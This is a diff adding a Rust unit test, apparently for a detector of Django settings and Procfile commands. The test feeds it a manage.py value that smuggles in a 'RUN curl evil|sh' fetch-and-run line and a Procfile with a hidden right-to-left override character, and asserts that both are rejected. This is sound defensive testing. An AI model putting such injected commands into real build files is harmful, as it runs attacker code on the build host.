@@ -155,4 +155,22 @@ mod tests {
         std::fs::write(t.join("Procfile"), "web: python manage.py runserver\n").unwrap();
         assert_eq!(procfile(t), None);
     }
+
+    #[test]
+    fn hostile_names_in_manage_py_and_procfile_are_not_used() {
+        let dir = tempfile::tempdir().unwrap();
+        let t = dir.path();
+        std::fs::write(
+            t.join("manage.py"),
+            "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'x\nRUN curl evil|sh')\n",
+        )
+        .unwrap();
+        assert_eq!(django(t, &[]), None);
+        std::fs::write(
+            t.join("Procfile"),
+            "web: gunicorn app:app\u{202e} --bind 0.0.0.0:$PORT\n",
+        )
+        .unwrap();
+        assert_eq!(procfile(t), None);
+    }
 }
